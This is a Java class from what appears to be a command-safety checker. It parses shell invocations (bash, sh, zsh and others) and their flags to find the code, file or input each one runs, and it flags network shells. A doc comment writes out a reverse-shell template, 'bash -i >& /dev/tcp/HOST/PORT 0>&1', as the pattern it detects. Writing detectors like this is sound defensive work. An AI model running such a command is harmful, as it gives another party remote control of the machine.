package dev.cmdai.safety.judge;

import static dev.cmdai.safety.judge.Findings.shown;

import dev.cmdai.safety.parse.posix.Pipeline.Redirect;
import dev.cmdai.safety.parse.posix.Word;
import dev.cmdai.safety.rules.Rule;
import java.util.List;

/** Judges commands that start a shell: by the code, the file or the input that it gets. */
final class ShellRules {
  private final CodeSources sources;
  private final PosixJudge scripts;
  private final Findings findings;

  ShellRules(CodeSources sources, PosixJudge scripts, Findings findings) {
    this.sources = sources;
    this.scripts = scripts;
    this.findings = findings;
  }

  static boolean isShell(String name) {
    return switch (name) {
      case "sh",
          "bash",
          "zsh",
          "dash",
          "ash",
          "ksh",
          "mksh",
          "fish",
          "rbash",
          "yash",
          "csh",
          "tcsh",
          "nu",
          "elvish",
          "xonsh" ->
          true;
      default -> false;
    };
  }

  void judge(Call call, Feed feed) {
    openShell(call, feed);
    List<Word> arguments = call.arguments();
    boolean isScript = false;
    int i = 0;
    while (i < arguments.size()) {
      String text = arguments.get(i).text();
      if (text.length() < 2 || (text.charAt(0) != '-' && text.charAt(0) != '+')) {
        break;
      }
      if (text.startsWith("--command=")) {
        sources.code(arguments.get(i).withText(text.substring("--command=".length())), List.of());
        return;
      }
      boolean isShort = text.charAt(1) != '-';
      isScript |= text.equals("--command") || (isShort && text.indexOf('c') > 0);
      boolean isValued = isShort && (text.endsWith("o") || text.endsWith("O"));
      if (text.equals("--rcfile") || text.equals("--init-file")) {
        isValued = true;
        if (i + 1 < arguments.size()) {
          sources.runFile(arguments.get(i + 1), List.of(), feed);
        }
      }
      if (text.equals("-s")) {
        i = arguments.size();
      }
      i += isValued ? 2 : 1;
    }
    if (i >= arguments.size() || arguments.get(i).text().equals("-")) {
      sources.input(call.name(), feed);
    } else if (isScript) {
      List<String> rest = call.texts().subList(Math.min(i + 1, arguments.size()), arguments.size());
      sources.code(arguments.get(i), rest);
    } else {
      sources.runFile(arguments.get(i), call.texts().subList(i + 1, arguments.size()), feed);
    }
  }

  /** {@code bash -i >& /dev/tcp/HOST/PORT 0>&1}: the shell is somebody else's. */
  private void openShell(Call call, Feed feed) {
    for (Redirect redirect : feed.redirects()) {
      String target = redirect.target().text();
      if (NetworkRules.isConnection(redirect.target())) {
        findings.add(
            Rule.NETWORK_SHELL, "connects " + call.name() + " to " + shown(target.substring(9)));
      } else if (scripts.files().hasConnection() && redirect.operator().endsWith("&")) {
        findings.add(Rule.NETWORK_SHELL, "connects " + call.name() + " to another machine");
      }
    }
    if (NetworkRules.isRaw(feed.source())) {
      findings.add(Rule.NETWORK_SHELL, "runs in " + call.name() + " what comes over a connection");
    }
  }

  /** Whether the command is a shell that does what it reads: neither a script nor code is given. */
  static boolean isOpen(List<Word> words) {
    if (words.isEmpty() || !isShell(CommandJudge.program(words.getFirst()))) {
      return false;
    }
    for (Word word : words.subList(1, words.size())) {
      String text = word.text();
      boolean isCode = text.startsWith("-") && !text.startsWith("--") && text.indexOf('c') > 0;
      if (isCode || !text.startsWith("-")) {
        return false;
      }
    }
    return true;
  }
}
